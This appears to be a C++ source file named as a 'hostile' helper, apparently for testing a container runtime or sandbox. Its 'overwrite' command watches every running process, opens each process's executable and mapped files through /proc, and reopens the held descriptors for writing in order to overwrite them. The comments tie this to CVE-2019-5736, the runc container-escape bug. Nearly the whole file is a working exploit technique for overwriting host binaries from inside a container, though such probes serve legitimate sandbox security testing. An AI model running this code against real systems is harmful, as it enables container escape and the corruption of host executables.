#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <map>
#include <set>
#include <utility>
#include <vector>

#include "commands.h"

namespace fluyt::hostile {

namespace {

using Identity = std::pair<dev_t, ino_t>;

// The same file may come by a way that can be written and by one that cannot.
constexpr size_t kHeldOfOne = 32;

Identity identity_of(const std::string& path) {
  struct stat info{};
  if (stat(path.c_str(), &info) != 0) return {};
  return {info.st_dev, info.st_ino};
}

// Through a descriptor that was opened for reading while the program ran: once nobody executes the
// file any more, writing to it is not "busy" (CVE-2019-5736).
bool write_through(int held) {
  const int fd = open(("/proc/self/fd/" + std::to_string(held)).c_str(), O_WRONLY | O_CLOEXEC);
  if (fd < 0) return false;
  const bool wrote = pwrite(fd, "EVIL", 4, 0) == 4;
  close(fd);
  return wrote;
}

}  // namespace

// What its pages are mapped from is a way to the same file, for who may follow it.
std::vector<std::string> files_of(const std::string& pid) {
  std::vector<std::string> out = {"/proc/" + pid + "/exe"};
  const std::string folder = "/proc/" + pid + "/map_files";
  DIR* dir = opendir(folder.c_str());
  if (dir == nullptr) return out;
  while (const dirent* entry = readdir(dir)) {
    if (entry->d_name[0] != '.') out.push_back(folder + "/" + entry->d_name);
  }
  closedir(dir);
  return out;
}

// overwrite SECONDS: catches the program of every process that appears and is not of this image,
// holds it, and tries to write to it until the end.
int overwrite(Arguments args) {
  if (args.size() != 1) return 2;
  const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(atoi(args[0]));
  const std::set<Identity> ours = {identity_of("/bin/busybox"), identity_of("/proc/self/exe")};
  std::map<Identity, size_t> seen;
  std::vector<int> held;
  int wrote = 0;
  std::puts("watching");
  std::fflush(stdout);
  while (std::chrono::steady_clock::now() < end) {
    for (const std::string& pid : processes()) {
      for (const std::string& file : files_of(pid)) {
        const int fd = open(file.c_str(), O_RDONLY | O_CLOEXEC);
        struct stat info{};
        if (fd < 0) continue;
        const bool caught = fstat(fd, &info) == 0 && !ours.contains({info.st_dev, info.st_ino}) &&
                            seen[{info.st_dev, info.st_ino}]++ < kHeldOfOne;
        if (caught) {
          held.push_back(fd);
        } else {
          close(fd);
        }
      }
    }
    for (const int fd : held) wrote += write_through(fd) ? 1 : 0;
  }
  std::printf("held %zu wrote %d\n", held.size(), wrote);
  return 0;
}

}  // namespace fluyt::hostile
